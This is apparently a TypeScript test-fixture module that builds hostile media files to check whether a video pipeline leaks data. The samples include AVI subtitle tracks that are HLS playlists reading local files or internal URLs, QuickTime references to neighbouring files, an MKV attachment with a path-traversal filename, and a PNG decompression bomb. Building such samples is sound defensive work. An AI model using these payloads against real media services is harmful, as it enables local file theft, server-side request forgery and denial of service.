import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { box, changeBox, findBox, words32 } from '../boxes.ts'
import { cameraClip } from '../clips.ts'
import { ffmpeg } from '../ffmpeg.ts'
import { aviOf, gab2, smallJpeg } from './avi.ts'
import { hls } from './disguised.ts'
import { canary, type HostileMaker, lavfi, type Victims } from './maker.ts'
import { circularExif, pngOf, profileBomb, textNote } from './png.ts'

/** An honest film of 2 s in AVI whose subtitle track holds a file of another kind. */
const aviWith =
  (name: string, text: (victims: Victims, ownPath: string) => string | Uint8Array): HostileMaker =>
  async (folder, victims) => {
    const path = join(folder, name)
    const frames = Array<Buffer>(50).fill(await smallJpeg(folder))
    const packet = gab2(Buffer.from(text(victims, path)))
    await writeFile(path, aviOf({ frames, width: 320, height: 180, text: packet }))
    return path
  }

/** Draws text as pictures: what stands after it in a playlist is shown, letter by letter. */
const xbinHead = Buffer.from([...Buffer.from('XBIN'), 0x1a, 80, 0, 25, 0, 16, 0])

/** A record of QuickTime's that says in which other file a track's bytes lie, by folder levels and by whole path. */
function alias(path: string): Buffer {
  const short = (value: number) => Buffer.from([value >> 8, value & 255])
  const named = Buffer.from(path.length % 2 ? `${path}\0` : path)
  const bytes = Buffer.concat([
    ...[Buffer.alloc(10), Buffer.alloc(28), Buffer.alloc(12), Buffer.alloc(64), Buffer.alloc(16)],
    ...[short(1), short(1), Buffer.alloc(16)],
    ...[short(2), short(named.length), named, short(0xffff), short(0)],
  ])
  return bytes
}

/** A film whose index is its own and whose pictures are in another file. */
const movieBeside =
  (name: string, entry: (victimPath: string) => Buffer): HostileMaker =>
  async folder => {
    const path = join(folder, name)
    const victim = join(folder, 'neighbour-film.mp4')
    await ffmpeg('-i', await cameraClip(folder), '-t', '2', '-an', '-c', 'copy', victim)
    const bytes = await readFile(victim)
    const moov = findBox(bytes, 'moov') - 8
    const index = changeBox(bytes.subarray(moov), ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref'], () =>
      Buffer.concat([words32(0, 1), entry(victim)]),
    )
    await writeFile(path, Buffer.concat([bytes.subarray(0, bytes.readUInt32BE(0)), index]))
    return path
  }

/** Real containers that carry, or point at, something else. */
export const smugglers = {
  /** As shown at PHDays 2017: a subtitle track that is a playlist. */
  aviWithPlaylistToFile: aviWith('gab2-file.avi', victims => hls(`file://${victims.secretFilm}`)),
  aviWithPlaylistToAddress: aviWith('gab2-address.avi', victims => hls(`${victims.canaryUrl}/INTERNAL.ts`)),
  /** The same, with a head before the stolen text that makes a picture of it. */
  aviWithXbin: aviWith('gab2-xbin.avi', (victims, ownPath) => {
    const range = `#EXT-X-BYTERANGE:${xbinHead.length}@0`
    return `#EXTM3U\n#EXTINF:1.0,\n${range}\n${ownPath}\n#EXTINF:1.0,\n${victims.secretText}\n#EXT-X-ENDLIST\n`
  }),
  /** Not an attack: shows that such a track is opened at all. */
  aviWithSubtitle: aviWith('gab2-srt.avi', () => '1\n00:00:00,000 --> 00:00:01,000\nwords\n'),
  movAliasToNeighbour: movieBeside('alias.mov', victim => box('alis', words32(0), alias(victim))),
  movUrlToNeighbour: movieBeside('url.mov', victim =>
    box('url ', words32(0), Buffer.from(`file://${victim}\0`)),
  ),
} satisfies Record<string, HostileMaker>

/** A picture that is a program: no film, and nothing but a picture's first bytes. */
export const xbinPicture: HostileMaker = async folder => {
  const path = join(folder, 'art.mp4')
  await writeFile(path, Buffer.concat([xbinHead, Buffer.alloc(4000, `${canary} `)]))
  return path
}

/** Films that bring files, fonts, titles and chapters along: their picture is wanted, their luggage is not. */
export const loadedFilms = {
  /** A font that a styled subtitle names, another file whose name climbs, and words in every field there is. */
  attachments: async folder => {
    const path = join(folder, 'attachments.mkv')
    const luggage = join(folder, 'luggage')
    await mkdir(luggage, { recursive: true })
    const font = join(luggage, 'font.ttf')
    await writeFile(font, `\0\x01\0\0${canary}`)
    const subtitle = join(luggage, 'styled.ass')
    await writeFile(
      subtitle,
      `[Script Info]\n[V4+ Styles]\nFormat: Name, Fontname\nStyle: Default,${font}\n[Events]\nFormat: Start, End, Text\nDialogue: 0:00:00.00,0:00:02.00,{\\fn${font}}${canary}\n`,
    )
    const words = ['-metadata', `title=${canary}`, '-metadata', `comment=subtitles=${font}`]
    const attached = ['-attach', font, '-metadata:s:t:0', 'mimetype=application/x-truetype-font']
    const climbing = ['-attach', font, '-metadata:s:t:1', 'mimetype=text/plain']
    await ffmpeg(
      ...['-i', await cameraClip(folder), '-i', subtitle, '-t', '2', '-map', '0', '-map', '1'],
      ...['-c', 'copy', '-c:s', 'ass', ...words, ...attached, ...climbing],
      ...['-metadata:s:t:1', `filename=../../../../../../${luggage}/escaped`, path],
    )
    return path
  },
  /** A talk with a cover: its colour profile unpacks to half a gigabyte, its notes point in a circle. */
  coverWithBombs: async folder => {
    const path = join(folder, 'cover.m4a')
    const cover = join(folder, 'bomb-cover.png')
    await writeFile(cover, pngOf(320, profileBomb(512 * 1024 ** 2), circularExif(), textNote(canary)))
    const sound = lavfi('sine=f=440:r=48000:d=2')
    await ffmpeg(
      ...sound,
      '-i',
      cover,
      '-map',
      '0',
      '-map',
      '1',
      '-c:a',
      'aac',
      '-c:v',
      'copy',
      ...['-disposition:v:0', 'attached_pic', path],
    )
    return path
  },
} satisfies Record<string, HostileMaker>
